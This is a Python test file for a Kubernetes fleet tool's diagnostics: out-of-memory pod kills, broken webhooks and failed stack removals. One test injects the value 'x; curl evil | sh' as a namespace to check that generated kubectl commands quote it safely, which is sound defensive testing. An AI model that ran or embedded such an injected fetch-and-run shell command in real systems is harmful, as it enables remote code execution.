"""Parts that were killed for memory, in the doctor and in the waits: also while they run again."""

import shlex

import pytest

from kai_fleet.cluster.kube.objects import KubeObject
from kai_fleet.cluster.probes import reasons
from kai_fleet_cli.recovery import failures
from kai_fleet_cli.recovery.failures import Run, Section
from tests.unit.cli.doctor.doctor_samples import (
    Lab,
    daemon_set,
    endpoints,
    event,
    meta,
    pod,
    webhook,
)

BACK_OFF = {
    "reason": "CrashLoopBackOff",
    "message": "back-off 5m0s restarting failed container=c p",
}
AGAIN = {"running": {"startedAt": "2026-11-01T11:50:00Z"}}
ENDED = {"exitCode": 137, "reason": "OOMKilled", "finishedAt": "2026-11-01T11:40:00Z"}


def killed(name, namespace, app, state, **ended):
    last = {"terminated": {**ENDED, **ended}}
    status = {"name": "c", "restartCount": 14, "state": state, "lastState": last}
    labels = {"app": app, "release": "ml"}
    more = {"status": {"containerStatuses": [status]}, "labels": labels}
    return pod(name, None, "ml-0", namespace=namespace, **more)


@pytest.mark.parametrize("state", [{"waiting": BACK_OFF}, AGAIN])
@pytest.mark.parametrize(
    ("part", "key"), [("kai-operator", "operator"), ("pod-grouper", "podgrouper")]
)
def test_a_part_of_kai_names_the_key_of_its_resources(state, part, key):
    lab = Lab()
    lab.ml["pods"].append(killed(f"{part}-1-x", "kai-scheduler", part, state))
    if "waiting" in state:
        lab.named("deployments", part)["status"] = {}
    (found,) = lab.ill()
    assert found.subject == f"Deployment {part}"
    assert "killed for memory (OOMKilled, 14 restarts)" in found.cause
    assert f"kai-fleet:teams.ml.scheduler.values.{key}.resources" in found.fix
    assert found.level.value == ("mandatory" if "waiting" in state else "advisory")


@pytest.mark.parametrize("state", [{"waiting": BACK_OFF}, AGAIN])
@pytest.mark.parametrize(
    ("app", "key"),
    [
        ("vcluster", "vcluster.resources"),
        ("vcluster-etcd", "etcd.deploy.statefulSet.resources"),
    ],
)
def test_a_control_plane_and_its_etcd_name_theirs(state, app, key):
    lab = Lab()
    lab.host["pods"].append(killed("ml-0", "team-ml", app, state))
    if "waiting" in state:
        lab.named("statefulsets", "ml", "host")["status"]["readyReplicas"] = 0
    (found,) = lab.ill()
    assert "container c was killed for memory (OOMKilled" in found.cause
    assert key in found.fix and "kai-fleet:teams.ml" in found.fix


def test_what_a_scheduler_said_is_over_once_a_node_has_the_pod():
    lab = Lab()
    waiting = {"waiting": {"reason": "CreateContainerError", "message": "no such device"}}
    plane = killed("ml-0", "team-ml", "vcluster", waiting)
    del plane["status"]["containerStatuses"][0]["lastState"]
    plane["spec"]["nodeName"] = "node-1"
    lab.host["pods"].append(plane)
    lab.host["events"].append(event(plane, "0/2 nodes are available: 2 node(s) were cordoned."))
    lab.named("statefulsets", "ml", "host")["status"]["readyReplicas"] = 0
    (found,) = lab.ill()
    assert "no such device" in found.cause


def test_an_init_container_is_killed_for_memory_too():
    found = killed("kai-operator-1", "kai-scheduler", "kai-operator", {"waiting": BACK_OFF})
    found["status"] = {"initContainerStatuses": found["status"]["containerStatuses"]}
    (text,) = reasons.reasons(None, [KubeObject(found)], reasons.Keys("path", "pool", "part"))
    assert text.endswith("memory (OOMKilled, 14 restarts): raise limits.memory at part")


def test_what_was_killed_days_ago_and_runs_is_well():
    lab = Lab()
    old = killed("binder-1", "kai-scheduler", "binder", AGAIN, finishedAt="2026-10-20T00:00:00Z")
    lab.ml["pods"].append(old)
    assert lab.ill() == []


def test_a_pod_of_the_gpu_stack_is_killed_for_memory_too():
    lab = Lab()
    lab.host["daemonsets"].append(daemon_set("toolkit"))
    lab.host["pods"].append(killed("toolkit-x", "gpu-operator", "toolkit", {"waiting": BACK_OFF}))
    (found,) = lab.ill()
    assert "container c was killed for memory (OOMKilled)" in found.cause
    assert "kai-fleet:gpu.values" in found.fix


@pytest.mark.parametrize("state", [{"waiting": BACK_OFF}, AGAIN, {"terminated": ENDED}])
def test_a_wait_names_the_key(state):
    item = KubeObject(killed("kai-operator-1", "kai-scheduler", "x", state))
    keys = reasons.Keys("path", "pool", "part")
    (text,) = reasons.reasons(None, [item], keys, lambda pod: f"key of {pod.name}")
    assert text == (
        "pod kai-operator-1: container c was killed for memory (OOMKilled, 14 restarts): raise"
        " limits.memory at key of kai-operator-1"
    )


def of_others():
    item = webhook("corp-policy-validating", "policy-svc")
    (hook,) = item["webhooks"]
    hook["name"] = "validate.policy.corp.example.com"
    hook["clientConfig"]["service"]["namespace"] = "corp-policy"
    return item


def test_a_tenant_writes_no_command_as_the_namespace_of_a_service():
    """Kubernetes takes any text there."""
    lab = Lab()
    item = of_others()
    item["webhooks"][0]["clientConfig"]["service"]["namespace"] = "x; curl evil | sh"
    lab.ml["validatingwebhookconfigurations"].append(item)
    (found,) = [entry for entry in lab.ill() if entry.name == "corp-policy-validating"]
    assert shlex.split(found.commands[0])[3:6] == ["-n", "x; curl evil | sh", "get"]


AWAY = (
    'failed calling webhook "validate.policy.corp.example.com": failed to call webhook: Post'
    ' "https://policy-svc.corp-policy.svc:443/validate?timeout=3s": service "policy-svc" not found'
)


def test_a_webhook_of_others_is_named_with_its_service_and_its_object():
    lab = Lab()
    lab.host["validatingwebhookconfigurations"] = [of_others()]
    (found,) = lab.ill()
    assert (found.level.value, found.subject) == ("advisory", "webhook corp-policy-validating")
    assert "Service policy-svc of namespace corp-policy" in found.cause
    assert "validate.policy.corp.example.com" in found.cause
    assert "`kubectl -n corp-policy get services,endpointslices,pods`" in found.fix
    lab.host["services"] = [{"metadata": meta("policy-svc", "corp-policy")}]
    assert [entry.subject for entry in lab.ill()] == [found.subject]
    piece = endpoints("policy-svc")
    piece["metadata"]["namespace"] = "corp-policy"
    lab.host["endpointslices"] = [piece]
    assert lab.ill() == []
    lab.host["endpointslices"] = []
    (hook,) = lab.host["validatingwebhookconfigurations"][0]["webhooks"]
    hook["rules"] = [{"resources": ["widgets"]}]
    assert lab.ill() == []
    hook["rules"] = [{"resources": ["resourcequotas"]}]
    assert [entry.subject for entry in lab.ill()] == [found.subject]


@pytest.mark.parametrize("escaped", [False, True])
def test_a_failed_update_does_not_look_for_it_in_the_namespace_of_kai(escaped):
    text = AWAY.replace('"', '\\"') if escaped else AWAY
    sentence = failures.cause_and_repair(text, Run("lab", "again"))
    assert "Service policy-svc of namespace corp-policy" in sentence
    assert "kubectl -n corp-policy get services,endpointslices,pods" in sentence
    assert "kai-scheduler" not in sentence
    own = AWAY.replace("policy-svc.corp-policy", "queue-controller.kai-scheduler")
    assert "kubectl -n kai-scheduler get pods" in failures.cause_and_repair(
        own, Run("lab", "again")
    )


GONE = Run("lab", "fleet destroy --refresh --stack lab")


def test_a_removal_whose_host_is_gone_names_what_forgets_the_stack_last():
    text = "error: configured Kubernetes cluster is unreachable: dial tcp: no such host"
    sentence = failures.cause_and_repair(text, GONE, section=Section.REMOVAL)
    first, last = sentence.split("Only where the host itself is gone for good")
    assert "kubectl get nodes" in first
    assert last.endswith("pulumi stack rm --force --preserve-config --yes --stack lab")
    assert failures.cause_and_repair("error: no space left", GONE, section=Section.REMOVAL) == ""
